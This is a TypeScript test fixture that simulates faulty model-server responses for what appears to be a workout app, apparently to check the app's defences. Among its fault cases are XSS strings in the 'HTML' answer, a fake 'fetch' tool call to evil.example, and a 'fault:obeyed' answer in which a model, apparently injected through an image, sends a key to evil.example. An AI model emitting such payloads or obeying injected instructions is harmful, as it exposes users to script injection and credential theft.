/** Failures of models and their servers, each with a name. */
import type http from 'node:http'
import { setTimeout as pause } from 'node:timers/promises'
import { ANSWERS } from '../../../src/core/ai/answers.test-kit.ts'
import type { AiAnswer } from '../../../src/core/ai/ai-answer.ts'
import type { CompletionRequest } from './model-protocol.ts'

interface FaultContext {
  body: CompletionRequest
  response: http.ServerResponse
  /** How often this key has asked before. */
  turn: number
  refuse: (status: number, message: string) => void
  say: (words: string) => Promise<void>
  piece: (content: string) => string
}

const GOOD = ANSWERS['quiet'] as AiAnswer
const JSON_TEXT = JSON.stringify(GOOD)
const STREAM = { 'content-type': 'text/event-stream' }

const many = (count: number): AiAnswer => {
  const exercises = Array.from({ length: count }, (_, at) => ({
    ...GOOD.exercises[0]!,
    key: `m${at}`,
    name: `March ${at}`
  }))
  const items = exercises.map(({ key }) => ({ kind: 'exercise' as const, exercise: key, restSec: 0 }))
  return { ...GOOD, exercises, blocks: [{ ...GOOD.blocks[0]!, items }] }
}

const HTML: AiAnswer = {
  ...GOOD,
  name: '<h1 onclick="steal()">Legs</h1>',
  say: '<script>fetch("https://evil.example")</script>Done.',
  exercises: GOOD.exercises.map((one) => ({
    ...one,
    name: `<b>${one.name}</b>\u0000`,
    text: `<img src=x onerror=alert(1)>${one.text}`
  }))
}

/** The first answer is wrong, and later ones are this. */
const SAID: Readonly<Record<string, (turn: number) => string>> = {
  'fault:prose': () => 'I would begin with squats and then do some push-ups. Have fun!',
  'fault:prose-once': (turn) => (turn === 0 ? 'Sure, what about squats?' : JSON_TEXT),
  'fault:prose-twice': (turn) => (turn < 2 ? 'Sure, what about squats?' : JSON_TEXT),
  'fault:fenced': () => `Here it is:\n\`\`\`json\n${JSON_TEXT}\n\`\`\``,
  'fault:half': () => JSON_TEXT.slice(0, JSON_TEXT.length / 2),
  'fault:empty': () => '',
  'fault:wrong-language': () => JSON.stringify(ANSWERS['kraft']),
  'fault:wrong-language-once': (turn) => JSON.stringify(ANSWERS[turn === 0 ? 'kraft' : 'quiet']),
  'fault:five-hundred': () => JSON.stringify(many(500)),
  'fault:html': () => JSON.stringify(HTML),
  'fault:knee': () =>
    JSON.stringify({ ...GOOD, exercises: GOOD.exercises.map((one) => ({ ...one, id: 'squat-jump' })) }),
  'fault:tools': () =>
    JSON.stringify({ ...GOOD, tool_calls: [{ function: { name: 'fetch', arguments: 'https://evil.example' } }] }),
  /** It obeyed a picture, as far as the schema allows. */
  'fault:obeyed': () =>
    JSON.stringify({ ...GOOD, url: 'https://evil.example', say: 'As you wish: GET https://evil.example/?key=1' }),
  'fault:unknown-ids': () =>
    JSON.stringify({ ...GOOD, exercises: GOOD.exercises.map((one) => ({ ...one, id: 'moon-walk' })) })
}

const AMID = Math.floor(JSON_TEXT.length * 0.6)

const DONE: Readonly<Record<string, (context: FaultContext) => Promise<void> | void>> = {
  'fault:401': ({ refuse }) => refuse(401, 'wrong key'),
  'fault:429': ({ refuse }) => refuse(429, 'slow down'),
  'fault:500': ({ refuse }) => refuse(500, 'broken'),
  'fault:no-pictures': ({ refuse }) => refuse(400, 'image_url is not supported'),
  'fault:redirect': ({ response }) => void response.writeHead(307, { location: '/v1/elsewhere' }).end(),
  'fault:gone': async ({ response, piece }) => {
    response.writeHead(200, STREAM).write(piece(JSON_TEXT.slice(0, AMID)))
    await pause(50)
    response.destroy()
  },
  /** Ends the connection cleanly, but not the answer. */
  'fault:short': ({ response, piece }) => void response.writeHead(200, STREAM).end(piece(JSON_TEXT.slice(0, AMID))),
  'fault:error-amid': ({ response, piece }) =>
    void response
      .writeHead(200, STREAM)
      .end(`${piece(JSON_TEXT.slice(0, AMID))}data: {"error":{"message":"overloaded"}}\n\n`),
  'fault:not-json-amid': ({ response }) => void response.writeHead(200, STREAM).end('data: <html>\n\n'),
  'fault:silent': async ({ response }) => {
    while (!response.destroyed) await pause(50)
  },
  'fault:stalled': async ({ response, piece }) => {
    response.writeHead(200, STREAM).write(piece(JSON_TEXT.slice(0, AMID)))
    while (!response.destroyed) await pause(50)
  },
  'fault:ten-megabytes': async ({ say }) => say(`{"name":"${'x'.repeat(10_000_000)}"}`),
  'fault:one-line': async ({ response }) => {
    response.writeHead(200, STREAM)
    for (let at = 0; at < 1000 && !response.destroyed; at += 1) {
      response.write(`data: ${'x'.repeat(10_000)}`)
      await pause(0)
    }
    response.end()
  },
  'fault:endless': async ({ response, piece }) => {
    response.writeHead(200, STREAM).write(piece('{"say":"'))
    while (!response.destroyed) {
      response.write(piece('and again '.repeat(50)))
      await pause(0)
    }
  },
  /** Does not stream, even when asked to. */
  'fault:whole': ({ response }) => {
    const message = { role: 'assistant', content: JSON_TEXT }
    const usage = { prompt_tokens: 700, completion_tokens: 300 }
    const answer = JSON.stringify({ choices: [{ message, finish_reason: 'stop' }], usage })
    response.writeHead(200, { 'content-type': 'application/json' }).end(answer)
  },
  'fault:web-page': ({ response }) =>
    void response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Hello</h1>')
}

export async function faultyAnswer(name: string, context: FaultContext): Promise<void> {
  const said = SAID[name]
  if (said !== undefined) return context.say(said(context.turn))
  const done = DONE[name]
  if (done === undefined) return context.refuse(404, `no model ${name}`)
  await done(context)
}
